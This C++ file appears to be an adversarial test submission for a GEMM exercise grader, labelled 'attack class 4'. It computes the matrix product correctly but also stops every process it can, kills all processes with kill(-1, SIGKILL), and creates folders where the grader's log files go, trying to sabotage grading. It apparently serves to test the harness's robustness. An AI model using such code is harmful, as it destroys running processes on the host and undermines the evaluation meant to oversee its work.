// Attack class 4, no grade at all: a correct naive GEMM that, on every call,
// signals every process it can (hoping to hit the reference worker or the
// grader) and makes folders where the grader once opened its log files. The
// reference is out of its reach and the logs have no names, so the grade is
// written and the correctness points are kept.
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <initializer_list>

// The level's own naive stub, renamed, does the arithmetic.
#define student_gemm naive_gemm
#include "levels/01-vectorization/exercise/gemm_cpu.cpp"
#undef student_gemm

extern "C" void student_gemm(const float* A, const float* B, float* C, int M, int N, int K) {
    for (const char* d : {"worker0.log", "worker1.log", "reference0.log", "compile.log"})
        mkdir(d, 0755);
    for (int pid = 1; pid < 65536; ++pid)
        if (pid != getpid()) kill(pid, SIGSTOP);
    kill(-1, SIGKILL);
    naive_gemm(A, B, C, M, N, K);
}
